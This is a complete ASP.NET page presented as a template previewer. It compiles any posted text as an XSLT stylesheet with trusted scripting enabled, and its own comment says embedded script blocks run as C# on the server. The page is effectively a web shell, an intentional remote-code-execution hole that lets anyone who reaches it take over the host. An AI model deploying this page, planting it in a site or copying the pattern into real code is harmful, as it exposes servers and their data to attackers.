<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Xml" %>
<%@ Import Namespace="System.Xml.Xsl" %>
<script runat="server">
    // The posted "template" is filled into an XmlDocument first and then compiled as a stylesheet
    // with scripts allowed: the script blocks it carries run as C# on the server.
    void Render(object sender, EventArgs e)
    {
        XmlDocument sheet = new XmlDocument();
        sheet.LoadXml(Template.Text);
        XslCompiledTransform xt = new XslCompiledTransform();
        xt.Load(sheet, XsltSettings.TrustedXslt, new XmlUrlResolver());
        StringWriter w = new StringWriter();
        xt.Transform(new XmlDocument().CreateNavigator(), null, w);
        Output.Text = Server.HtmlEncode(w.ToString());
    }
</script>
<form runat="server">
    <asp:TextBox ID="Template" runat="server" TextMode="MultiLine" />
    <asp:Button runat="server" Text="Preview" OnClick="Render" />
    <asp:Literal ID="Output" runat="server" />
</form>
